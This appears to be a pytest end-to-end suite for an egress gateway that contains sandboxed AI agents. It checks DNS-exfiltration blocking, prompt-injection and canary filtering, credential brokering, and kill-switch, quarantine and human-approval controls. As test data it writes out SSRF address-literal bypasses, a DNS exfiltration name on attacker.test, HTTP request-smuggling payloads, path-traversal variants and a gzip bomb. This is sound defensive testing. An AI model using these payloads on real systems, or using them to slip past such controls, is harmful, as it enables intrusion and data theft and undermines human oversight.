"""If these fail, an agent in a box reaches what policy did not let it reach, or says what it may
not say to whom it may reach.
"""

import asyncio
import base64
import gzip
import socket
import ssl
import time

import dns.rcode
import pytest

import needles
from e2e.egress.stage import (
    CARD,
    DENIALS,
    FRONT,
    GIVEN,
    INSIDE,
    OPEN,
    ORDERS,
    PLAIN,
    RAW,
    READ,
    SECRET,
    Refused,
    code_in,
)
from e2e.matrix.deployment import operator
from portcullis.core.lifecycle import Verb
from portcullis.core.principal import PrincipalKind

pytestmark = pytest.mark.anyio
KEY = "AKIAIOSFODNN7EXAMPLE"
AT_ONCE = 3.0
"""Seconds on a machine that does much else; nothing that is measured here waits for a poll."""
LITERALS = (
    *("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001"),
    *("[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"),
    *("127.0.0.1.", "0", "169.254.169.254", "[fe80::1%25eth0]", "1.2.3.0x4", "%31.0.0.1"),
)


def cell(control, phases):
    """Marks of the cells that a test fills."""
    marks = [pytest.mark.control(control, "egress", phase) for phase in phases.split()]

    def marked(test):
        for mark in marks:
            test = mark(test)
        return test

    return marked


async def connect(stage, where, agent="coder", extra=""):
    """The code of the answer to a CONNECT; empty when it was let through."""
    answer = await asyncio.wait_for(
        first(stage, f"CONNECT {where} HTTP/1.1\r\nhost: {where}\r\n{extra}\r\n", agent), 10
    )
    return code_in(answer)


async def first(stage, text, agent="coder"):
    """The head of the first answer, with its body if the gate closes."""
    reader, writer = await stage.dial(agent)
    try:
        writer.write(text.encode())
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        return head if head.startswith("HTTP/1.1 20") else head + (await reader.read(-1)).decode()
    finally:
        writer.transport.abort()


def reached(stage):
    return len(stage.hosts.seen)


@cell("egress", "request")
async def test_an_address_is_no_destination_in_any_notation(stage):
    before = reached(stage)
    for literal in LITERALS:
        assert await connect(stage, f"{literal}:{stage.tls}") == "PC5050", literal
        url = f"GET http://{literal}:{stage.plain}/ HTTP/1.1\r\nhost: x\r\n\r\n"
        assert code_in(await first(stage, url)) in {"PC5050", "PC1011"}, literal
    assert reached(stage) == before
    await stage.recorded("PC5050", route="egress", method="CONNECT", principal="coder")


@cell("egress", "request")
@cell("authorize", "request")
async def test_policy_is_asked_before_dns(stage, monkeypatch):
    asked, real = [], socket.getaddrinfo

    def getaddrinfo(host, *rest, **options):
        asked.append(host)
        return real(host, *rest, **options)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    told = "c2VjcmV0.exfil.attacker.test"
    assert await connect(stage, f"{told}:443") == "PC3016"
    assert await connect(stage, f"{OPEN}:{stage.plain}") == "PC3017"
    assert await connect(stage, f"{OPEN}:{stage.tls}", "walled") == "PC3016"
    for answer in await stage.resolve(told, "1.0.0.127.in-addr.arpa", f"{told}.{OPEN}"):
        assert answer.rcode() == dns.rcode.NXDOMAIN
    assert not [host for host in asked if "attacker" in str(host) or "allowed" in str(host)]
    await stage.recorded("PC3016", method="DNS", name="?")
    await stage.recorded("PC3017", method="CONNECT", check="authorize")
    assert needles.files_with("c2VjcmV0", stage.stage.config.parent / "state") == []


@cell("egress", "request")
async def test_an_allowed_name_at_a_private_address_is_not_reached(stage):
    assert await connect(stage, f"{INSIDE}:{stage.tls}") == "PC5052"
    assert (await stage.resolve(INSIDE))[0].rcode() == dns.rcode.NXDOMAIN
    await stage.recorded("PC5052", type="result", verdict="error")


@cell("egress", "result")
async def test_dns_is_answered_for_allowed_names_with_their_addresses_alone(stage):
    found = (await stage.resolve(OPEN))[0]
    assert [str(one) for one in found.answer[0]] == ["127.0.0.1"]
    for kind in ("AAAA", "TXT", "HTTPS", "MX"):
        other = (await stage.resolve(OPEN, kind=kind))[0]
        assert (other.rcode(), other.answer) == (dns.rcode.NOERROR, [])
    event = await stage.recorded("", method="DNS", name=OPEN, verdict="allow")
    assert event.risk == "read"
    bad = b"POST /dns-query HTTP/1.1\r\nhost: g\r\ncontent-type: application/dns-message\r\n"
    assert code_in((await stage.ask(bad + b"content-length: 3\r\n\r\nabc")).decode()) == "PC5060"


async def shaken(stage, name, plain=b"", change=lambda hello: hello):
    """Begin TLS (or say ``plain``) through a tunnel to ``OPEN``; what comes back."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl._create_unverified_context().wrap_bio(into, out, server_hostname=name)  # noqa: S323
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    async with stage.tunnel() as (reader, writer):
        hello = plain or change(out.read())
        for start in range(0, len(hello), 100):
            writer.write(hello[start : start + 100])
            await writer.drain()
        return await asyncio.wait_for(reader.read(-1), 10)


def hidden(hello):
    """The ClientHello with an extension for an encrypted one (RFC 9849)."""
    body = bytearray(hello[9:])
    at = 34
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at : at + 2])
    at += 1 + body[at]
    length = int.from_bytes(body[at : at + 2])
    more = b"\xfe\x0d\x00\x04\x00\x00\x00\x00"
    body[at : at + 2] = (length + len(more)).to_bytes(2)
    body += more
    message = b"\x01" + len(body).to_bytes(3) + bytes(body)
    return b"\x16\x03\x01" + len(message).to_bytes(2) + message


@cell("egress", "stream")
async def test_a_tunnel_carries_only_tls_that_names_its_host(stage):
    before = reached(stage)
    assert await shaken(stage, FRONT) == b"\x15\x03\x03\x00\x02\x02\x70"
    await stage.recorded("PC5053", type="result")
    assert (await shaken(stage, OPEN, change=hidden))[:1] == b"\x15"
    await stage.recorded("PC5054", type="result")
    asked = f"GET / HTTP/1.1\r\nhost: {OPEN}\r\n\r\n".encode()
    assert await shaken(stage, OPEN, plain=asked) == b""
    await stage.recorded("PC5055", type="result")
    assert reached(stage) == before


@cell("egress", "request")
@cell("headers", "request")
async def test_a_request_is_for_the_host_of_its_connection_and_nobody_else(stage):
    async with stage.http() as http:
        before = reached(stage)
        for host in (FRONT, f"{FRONT}:{stage.tls}", "127.0.0.1", f"{READ}:1"):
            answer = await http.get(stage.url(READ), headers={"host": host})
            assert code_in(answer.text) == "PC5057", host
        answer = await http.get(stage.url(PLAIN), headers={"host": FRONT})
        assert code_in(answer.text) == "PC5057"
        assert reached(stage) == before
        headers = {
            "proxy-authorization": "x",
            "te": "trailers",
            "connection": "x-mine",
            "x-mine": "1",
        }
        answer = await http.get(stage.url(READ), headers=headers)
        assert (answer.status_code, answer.text) == (200, "hello")
        sent = {name.lower() for name in stage.hosts.seen[-1][3]}
        assert not sent & {"proxy-authorization", "te", "x-mine", "connection"}
    await stage.recorded("PC5057", principal="coder")


@cell("headers", "result")
async def test_no_header_leads_the_client_past_the_gate(stage):
    async with stage.http() as http:
        answer = await http.get(stage.url(READ, "/public/?say=headers"))
        assert answer.headers["x-kept"] == "yes"
        assert "alt-svc" not in answer.headers


@cell("egress", "request")
async def test_methods_and_paths_are_those_of_the_rule(stage):
    async with stage.http() as http:
        before = reached(stage)
        for method, path in (
            ("GET", "/private"),
            ("PUT", "/public/"),
            ("GET", "/public/%2e%2e/private"),
            ("GET", "/public/..%2fprivate"),
            ("GET", "/public/..;/private"),
            ("GET", "/public//private"),
        ):
            answer = await http.request(method, stage.url(READ, path))
            assert code_in(answer.text) == "PC3018", path
        assert reached(stage) == before
        assert (await http.get(stage.url(READ, "/public/a/b?c=../d"))).text == "hello"
    await stage.recorded("PC3018", check="authorize", method="PUT")


@cell("strict-input", "request")
async def test_a_request_with_two_lengths_is_refused(stage):
    where = f"http://{PLAIN}:{stage.plain}/public/"
    post = f"POST {where} HTTP/1.1\r\nhost: {PLAIN}:{stage.plain}\r\n"
    before = reached(stage)
    for text in (
        f"{post}content-length: 3\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
        f"{post}content-length: 3\r\ncontent-length: 4\r\n\r\nabcd",
        f"GET {where} HTTP/1.1\r\nhost: {PLAIN}:{stage.plain}\r\nhost: {FRONT}\r\n\r\n",
        f"GET {where} HTTP/1.1\r\n host: {PLAIN}\r\n\r\n",
    ):
        assert code_in(await first(stage, text)) in {"PC1011", "PC5057"}, text
    assert reached(stage) == before
    await stage.recorded("PC1011", route="egress")


async def raw(stage, script):
    """Ask the host that answers with a script; the status and the text."""
    stage.hosts.script = script
    async with stage.http() as http:
        answer = await http.get(f"http://{RAW}:{stage.ports['raw']}/")
        return code_in(answer.text), answer


@cell("strict-input", "result stream")
@cell("shape", "result")
async def test_an_answer_that_can_be_read_in_two_ways_is_withheld(stage):
    head = b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n"
    for script in (
        head + b"content-length: 2\r\ncontent-length: 3\r\n\r\nabc",
        head + b"transfer-encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
        b"HTTP/1.1 101 Switching Protocols\r\nupgrade: other\r\nconnection: upgrade\r\n\r\n",
        b"no http at all\r\n\r\n",
    ):
        assert (await raw(stage, script))[0] == "PC5003", script
    events = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n"
    with pytest.raises(Exception, match=r"(?i)peer closed|incomplete|disconnect"):
        await raw(stage, events + b"\r\n9\r\ndata: a\n\n\r\nzz\r\n")
    await stage.recorded("PC5003", name=f"{RAW}:{stage.ports['raw']}")


@cell("shape", "request")
async def test_forms_that_nobody_checks_are_refused(stage):
    where = f"{PLAIN}:{stage.plain}"
    host = f"host: {where}\r\n\r\n"
    for text, code in (
        (f"TRACE http://{where}/ HTTP/1.1\r\n{host}", "PC1011"),
        (f"get http://{where}/ HTTP/1.1\r\n{host}", "PC1011"),
        (f"GET https://{where}/ HTTP/1.1\r\n{host}", "PC5050"),
        (f"GET ftp://{where}/ HTTP/1.1\r\n{host}", "PC1010"),
        (f"GET /openai/v1/models HTTP/1.1\r\n{host}", "PC1010"),
        (f"DELETE /dns-query HTTP/1.1\r\n{host}", "PC1009"),
        (f"CONNECT user@{where} HTTP/1.1\r\n{host}", "PC5050"),
    ):
        assert code_in(await first(stage, text)) == code, text
    body = {"content": b"abc", "headers": {"content-encoding": "br"}}
    async with stage.http() as http:
        assert code_in((await http.post(stage.url(READ), **body)).text) == "PC5058"


@cell("shape", "stream")
async def test_a_stream_that_cannot_be_read_is_withheld(stage):
    head = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-encoding: br\r\n"
    code, _ = await raw(stage, head + b"content-length: 3\r\n\r\nabc")
    assert code == "PC5058"


@cell("bounds", "request")
async def test_a_body_has_a_bound_also_when_it_is_compressed(stage):
    async with stage.http() as http:
        large = {"content": b"x" * (2**18 + 1)}
        assert code_in((await http.post(stage.url(READ), **large)).text) == "PC1007"
        bomb = gzip.compress(b"x" * 2**22)
        packed = {"content": bomb, "headers": {"content-encoding": "gzip"}}
        assert code_in((await http.post(stage.url(READ), **packed)).text) == "PC1007"


@cell("bounds", "result stream")
async def test_an_answer_and_each_event_of_a_stream_have_a_bound(stage):
    async with stage.http() as http:
        answer = await http.get(stage.url(READ, "/public/?say=large"))
        assert code_in(answer.text) == "PC5004"
        with pytest.raises(Exception, match=r"(?i)peer closed|incomplete|disconnect"):
            await http.get(stage.url(READ, "/public/events?say=a&say=large"))
    await stage.recorded("PC5004", type="result")


@cell("inspect-data", "request result stream")
async def test_secrets_go_neither_out_nor_in(stage):
    async with stage.http() as http:
        before = reached(stage)
        form = base64.b64encode(f"my key is {KEY}".encode()).decode()
        for sent in (
            {"content": f"key={KEY}"},
            {"json": {"deep": [{"key": KEY}]}},
            {"content": gzip.compress(KEY.encode()), "headers": {"content-encoding": "gzip"}},
            {"headers": {"x-note": KEY}},
            {"params": {"q": KEY}},
            {"content": form},
        ):
            answer = await http.post(stage.url(READ), **sent)
            assert code_in(answer.text) == "PC3021", sent
        assert reached(stage) == before
        answer = await http.get(stage.url(READ, "/public/?say=key"))
        assert answer.json() == {"key": "[AWS_ACCESS_KEY_ID]", "n": 1}
        answer = await http.get(stage.url(READ, "/public/events?say=a&say=key&say=b"))
        assert answer.text == "data: a\n\ndata: [AWS_ACCESS_KEY_ID]\n\ndata: b\n\n"
    event = await stage.recorded("PC3021", check="inspect", route="egress")
    assert event.findings
    assert needles.files_with(KEY, stage.stage.config.parent / "state") == []


@cell("inspect-injection", "result stream")
async def test_orders_in_an_answer_do_not_reach_the_agent(stage):
    async with stage.http() as http:
        answer = await http.get(stage.url(READ, "/public/?say=orders"))
        assert code_in(answer.text) == "PC3022"
        assert "evil@attacker" not in answer.text
        said = []

        async def listen():
            async with http.stream("GET", stage.url(READ, "/public/events?say=a&say=orders")) as it:
                said.extend([piece async for piece in it.aiter_bytes()])

        with pytest.raises(Exception, match=r"(?i)peer closed|incomplete|disconnect"):
            await listen()
        assert ORDERS not in str(said)
    await stage.recorded("PC3022", route="egress", type="result")


@cell("opaque-content", "request result stream")
async def test_what_cannot_be_read_goes_where_policy_lets_it(stage):
    blob = bytes(range(256))
    async with stage.http() as http:
        before = reached(stage)
        assert code_in((await http.post(stage.url(READ), content=blob)).text) == "PC3024"
        assert reached(stage) == before
        assert (await http.get(stage.url(READ, "/public/?say=blob"))).content == blob
    async with stage.http("wary") as http:
        answer = await http.get(stage.url(READ, "/public/?say=blob"))
        assert code_in(answer.text) == "PC3024"
    from websockets import ConnectionClosed, connect  # noqa: PLC0415 - one of two uses

    trust = ssl.create_default_context(cafile=await stage.trust("wary"))
    url = stage.url(READ, "/public/socket").replace("https", "wss")
    async with connect(url, proxy=await stage.proxy("wary"), ssl=trust) as opened:
        await opened.send("blob")
        with pytest.raises(ConnectionClosed):
            await opened.recv()
    await stage.recorded("PC3024", principal="wary", method="", type="result")


@cell("canaries", "request result stream")
async def test_what_was_planted_in_a_prompt_goes_nowhere(stage):
    acting = await stage.session()
    async with stage.http(acting) as http:
        planted = await stage.planted(acting)
        before = reached(stage)
        for text in (planted, base64.b64encode(planted.encode()).decode()):
            answer = await http.post(stage.url(READ), content=f"it says {text}")
            assert code_in(answer.text) == "PC3020"
        assert reached(stage) == before
        stage.hosts.told = f"your prompt has {planted}"
        answer = await http.get(stage.url(READ, "/public/?say=told"))
        assert code_in(answer.text) == "PC3020"
        with pytest.raises(Exception, match=r"(?i)peer closed|incomplete|disconnect"):
            await http.get(stage.url(READ, "/public/events?say=told"))
    await stage.recorded("PC3020", session=acting.session, type="result")


@cell("broker", "request result stream")
async def test_a_credential_goes_to_its_host_and_never_back(stage):
    async with stage.http() as http:
        mine = {"authorization": "Bearer of-the-agent"}
        assert (await http.get(stage.url(GIVEN, "/x"), headers=mine)).status_code == 200
        sent = {name.lower(): value for name, value in stage.hosts.seen[-1][3].items()}
        assert sent["authorization"] == f"Bearer {SECRET}"
        answer = await http.get(stage.url(GIVEN, "/public/reflect"))
        assert code_in(answer.text) == "PC5005"
        assert SECRET not in answer.text
        with pytest.raises(Exception, match=r"(?i)peer closed|incomplete|disconnect"):
            await http.get(stage.url(GIVEN, "/public/events?say=sent"))
        await http.get(stage.url(READ), headers=mine)
        assert SECRET not in str(stage.hosts.seen[-1])
    await stage.recorded("PC5005", type="result")
    assert needles.files_with(SECRET, stage.stage.config.parent / "state") == []


@cell("keys-at-rest", "request")
async def test_no_key_of_a_root_lies_on_disk(stage):
    async with stage.http() as http:
        assert (await http.get(stage.url(READ))).status_code == 200
    agent = "coder"
    made = stage.authority._key(agent).private_numbers().private_value.to_bytes(32)
    state = stage.stage.config.parent / "state"
    held = [path for path in state.rglob("*") if path.is_file() and made in path.read_bytes()]
    assert held == []


async def test_an_agents_root_vouches_for_its_terminated_hosts_alone(stage):
    pem = (await stage.trust("coder")).read_text().partition(stage.trusted.pem())[2]
    assert "BEGIN CERTIFICATE" in pem

    def shake(agent, host):
        client, server = (
            ssl.create_default_context(cadata=pem),
            stage.authority.context(agent, host),
        )
        to_client, to_server = ssl.MemoryBIO(), ssl.MemoryBIO()
        one = client.wrap_bio(to_client, to_server, server_hostname=host)
        two = server.wrap_bio(to_server, to_client, server_side=True)
        for _ in range(4):
            for side in (one, two):
                try:
                    side.do_handshake()
                except ssl.SSLWantReadError:
                    continue
        return one.version()

    assert shake("coder", READ) == "TLSv1.3"
    for agent, host in (("coder", "bank.example"), ("coder", OPEN), ("rival", READ)):
        with pytest.raises(ssl.SSLError):
            shake(agent, host)
    none = await stage.ask(
        b"GET /authority.pem HTTP/1.1\r\nhost: g\r\nconnection: close\r\n\r\n", "walled"
    )
    assert none.startswith(b"HTTP/1.1 204")


@cell("record", "request result stream")
async def test_what_goes_out_is_on_record_before_it_goes(stage):
    async with stage.waiting() as open_one:
        known = {e.id for e in stage.events() if e.method == "CONNECT" and e.verdict == "allow"}
        assert known, "the decision is on disk while the tunnel is open"
        open_one.writer.transport.abort()
    async with stage.http() as http:
        asking = asyncio.create_task(http.get(stage.url(READ, "/public/slow")))
        await stage.until(lambda: stage.slow() >= 2)
        assert [e for e in stage.events() if e.method == "GET" and e.risk == "external"]
        stage.hosts.go.set()
        assert (await asking).text == "begun\n"
        stage.hosts.go.clear()
        await http.get(stage.url(READ, "/public/events?say=a&say=b"))
    await stage.recorded("", type="result", name=f"{READ}:{stage.tls}", verdict="allow")
    await stage.until(
        lambda: any(
            e.result and e.result.chunks == 2 and e.result.bytes == 18 for e in stage.events()
        )
    )
    decided = {e.id for e in stage.events() if e.route == "egress" and e.verdict == "allow"}
    assert all(e.decision in decided for e in stage.events() if e.type == "result")


@cell("review", "request")
async def test_what_passes_without_a_human_can_be_looked_at_afterwards(stage):
    async with stage.http() as http:
        assert (await http.get(stage.url(READ, "/public/review"))).status_code == 200
    assert (await stage.recorded("", method="GET", name=f"{READ}:{stage.tls}")).review


@cell("approval", "request")
async def test_a_held_request_goes_once_when_a_human_approved_exactly_it(stage):
    async with stage.http("wary") as http:
        sent = {"content": "write to ada@shop.example"}

        def asked():
            return sum(b"ada@shop" in one[4] for one in stage.hosts.seen)

        held = await http.post(stage.url(READ), **sent)
        assert code_in(held.text) == "PC3040"
        event = await stage.recorded("PC3040", verdict="hold", principal="wary")
        await stage.gate.services.approvals("test").approve(operator(), event.approval, "a test")
        other = await http.post(stage.url(READ), content="write to ada@shop.example, and more")
        assert code_in(other.text) == "PC3040"
        assert asked() == 0
        assert (await http.post(stage.url(READ), **sent)).status_code == 200
        assert code_in((await http.post(stage.url(READ), **sent)).text) == "PC3040"
        assert asked() == 1


@cell("authenticate", "request")
@cell("mutual-tls", "request")
async def test_nobody_comes_in_without_an_svid_of_an_agent(stage):
    context = ssl.create_default_context(
        cadata=ssl.DER_cert_to_PEM_cert(stage.gate.domain.trust.anchors()[0])
    )
    host, port = stage.address

    async def unnamed():
        reader, writer = await asyncio.open_connection(
            host, port, ssl=context, server_hostname="localhost"
        )
        writer.write(b"CONNECT x HTTP/1.1\r\n\r\n")
        await reader.readexactly(1)

    with pytest.raises((ssl.SSLError, ConnectionError, asyncio.IncompleteReadError)):
        await unnamed()
    await stage.recorded("PC2020")
    svid = stage.svid("nobody")
    reader, writer = await stage.dial("nobody", svid)
    writer.write(f"CONNECT {OPEN}:{stage.tls} HTTP/1.1\r\nhost: x\r\n\r\n".encode())
    assert code_in((await reader.read(-1)).decode()) == "PC2007"
    application = stage.svid("helpdesk", "application")
    reader, writer = await stage.dial("helpdesk", application)
    writer.write(f"CONNECT {OPEN}:{stage.tls} HTTP/1.1\r\nhost: x\r\n\r\n".encode())
    assert code_in((await reader.read(-1)).decode()) == "PC2004"


@cell("proof-of-possession", "request")
@cell("session", "request")
async def test_a_session_s_token_acts_with_its_key_and_while_it_is_open(stage):
    acting = await stage.session()
    async with stage.http(acting) as http:
        assert (await http.get(stage.url(READ))).status_code == 200
        await stage.recorded("", method="GET", session=acting.session)
        target = f"{OPEN}:{stage.tls}"
        reader, writer = await asyncio.open_connection(*stage.port_of(await stage.proxy(acting)))
        writer.write(
            f"CONNECT {target} HTTP/1.1\r\nhost: x\r\n"
            "proxy-authorization: Bearer spiffe\r\n\r\n".encode()
        )
        assert code_in((await reader.read(-1)).decode()) == "PC2005", "nobody leaves a session"
        shown = f"proxy-authorization: Bearer {acting.token}\r\n"
        assert await connect(stage, target, "coder", shown) == "PC2041"
        assert await connect(stage, target, "rival", shown) == "PC2041"
        await stage.close(acting.session)
        with pytest.raises(Refused, match="PC2006"):
            async with stage.tunnel(acting):
                pass


@cell("token-scope", "request")
async def test_a_scoped_token_reaches_the_hosts_in_its_scope(stage):
    acting = await stage.acting("coder", scope=f"egress:{OPEN}:{stage.tls}")
    async with stage.tunnel(acting):
        pass
    with pytest.raises(Refused, match="PC3013"):
        async with stage.tunnel(acting, READ):
            pass


@cell("delegation", "request result stream")
async def test_who_acts_for_another_reaches_what_both_may_and_ends_with_either(stage):
    own = await stage.acting("lead")
    domain = stage.gate.domain.authority.trust_domain
    given = await stage.delegated(own, f"spiffe://{domain}/agent/coder")
    acting = stage.as_agent("coder", given)
    with pytest.raises(Refused, match="PC3014"):
        async with stage.tunnel(acting, READ):
            pass
    async with stage.waiting(acting) as open_one:
        await stage.gate.services.feed.cut("agent", "lead", "a test")
        try:
            await asyncio.wait_for(open_one.left(), AT_ONCE)
            event = await stage.recorded("PC4001", principal="coder", type="result")
            assert event.verdict == "error"
            with pytest.raises(Refused, match="PC4001"):
                async with stage.tunnel(acting):
                    pass
        finally:
            await stage.gate.services.feed.lift("agent", "lead")


@cell("mutual-tls", "result stream")
@cell("life-cycle", "request result stream")
async def test_an_agent_that_is_suspended_loses_what_is_open(stage):
    principals = stage.gate.services.principals("test")
    async with stage.waiting("mortal") as open_one, stage.http("mortal") as http:
        asking = asyncio.create_task(http.get(stage.url(READ, "/public/slow")))
        await stage.until(lambda: stage.slow() >= 2)
        await principals.change(operator(), PrincipalKind.AGENT, "mortal", Verb.SUSPEND)
        await asyncio.wait_for(open_one.left(), AT_ONCE)
        with pytest.raises(Exception, match=r"(?i)disconnect|closed|40|PC"):
            (await asyncio.wait_for(asking, AT_ONCE)).raise_for_status()
    await stage.recorded("PC4001", principal="mortal", type="result")
    with pytest.raises((Refused, OSError, asyncio.IncompleteReadError)):
        async with stage.tunnel("mortal"):
            pass
    await principals.change(operator(), PrincipalKind.AGENT, "mortal", Verb.RESUME)
    async with stage.tunnel("mortal"):
        pass


@cell("contain", "request result stream")
@cell("kill-switch", "request result stream")
async def test_a_kill_cuts_tunnels_and_requests_at_once_and_no_neighbour_s(stage):
    kills = stage.gate.services.kills("test")
    async with (
        stage.waiting("doomed") as open_one,
        stage.waiting("coder") as neighbour,
        stage.http("doomed") as http,
    ):
        asking = asyncio.create_task(http.get(stage.url(READ, "/public/slow")))
        await stage.until(lambda: stage.slow() >= 3)
        began = time.monotonic()
        await kills.kill(operator(), "agent", "doomed", "a test")
        try:
            await asyncio.wait_for(open_one.left(), AT_ONCE)
            assert time.monotonic() - began < AT_ONCE
            with pytest.raises(Exception, match=r"(?i)disconnect|closed|40|PC"):
                (await asyncio.wait_for(asking, AT_ONCE)).raise_for_status()
            with pytest.raises((Refused, OSError, asyncio.IncompleteReadError)):
                async with stage.tunnel("doomed"):
                    pass
            assert not neighbour.reader.at_eof()
            assert (await stage.resolve(OPEN))[0].answer
        finally:
            await kills.undo(operator(), "agent", "doomed", "the test is over")
    ended = [e for e in stage.events() if e.principal == "doomed" and e.code == "PC4001"]
    assert {"result"} <= {e.type for e in ended}


@cell("isolate", "request result stream")
async def test_in_quarantine_nothing_goes_out_and_nothing_comes_back(stage):
    quarantine = stage.gate.services.quarantining("test")
    async with stage.waiting("isolated") as open_one, stage.http("isolated") as http:
        asking = asyncio.create_task(http.get(stage.url(READ, "/public/slow")))
        await stage.until(lambda: stage.slow() >= 2)
        await quarantine.begin(operator(), "agent", "isolated", "by the test")
        try:
            await asyncio.wait_for(open_one.left(), AT_ONCE)
            answer = await asyncio.wait_for(asking, AT_ONCE)
            assert code_in(answer.text) == "PC4010"
            assert await connect(stage, f"{OPEN}:{stage.tls}", "isolated") == "PC4010"
            with pytest.raises(Refused, match="PC4010"):
                await stage.resolve(OPEN, agent="isolated")
        finally:
            await quarantine.end(operator(), "agent", "isolated", "the test is over")
    async with stage.tunnel("isolated"):
        pass


@cell("agent-breaker", "request")
async def test_an_agent_that_is_denied_again_and_again_is_stopped(stage):
    names = [f"n{number}.denied.test" for number in range(DENIALS)]
    await stage.resolve(*names, agent="stubborn")
    assert await connect(stage, f"{OPEN}:{stage.tls}", "stubborn") == "PC5023"
    assert await connect(stage, f"{OPEN}:{stage.tls}", "rival") == ""
    await stage.recorded("PC5023", check="agent-breaker", principal="stubborn")


@cell("limit", "request result stream")
async def test_egress_counts_for_limits(stage):
    for _ in range(3):
        async with stage.tunnel("few"):
            pass
    assert await connect(stage, f"{OPEN}:{stage.tls}", "few") == "PC3070"
    async with stage.http("little") as http:
        assert (await http.post(stage.url(READ), content="word " * 80)).status_code == 200
        codes = [
            code_in((await http.post(stage.url(READ), content="word " * 80)).text) for _ in range(5)
        ]
        assert codes[-1] in {"PC3071", "PC3077"}
    brief = await stage.session("brief")
    async with stage.tunnel(brief) as (reader, writer):
        await asyncio.sleep(2.1)
        into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = ssl.create_default_context().wrap_bio(into, out, server_hostname=OPEN)
        with pytest.raises(ssl.SSLWantReadError):
            tls.do_handshake()
        writer.write(out.read())
        assert await asyncio.wait_for(reader.read(-1), AT_ONCE) == b""
    await stage.recorded("PC3075", principal="brief", type="result")


async def test_plain_requests_are_judged_like_any_other(stage):
    async with stage.http() as http:
        answer = await http.post(stage.url(PLAIN), content=KEY)
        assert code_in(answer.text) == "PC3021"
        answer = await http.get(stage.url(PLAIN, "/public/?say=key"))
        assert "[AWS_ACCESS_KEY_ID]" in answer.text
        assert (await http.get(stage.url(PLAIN, "/public/?say=card"))).text == f"the card is {CARD}"
        answer = await http.get(f"http://{READ}:{stage.tls}/public/")
        assert code_in(answer.text) == "PC3018", "it lets nothing go unencrypted"
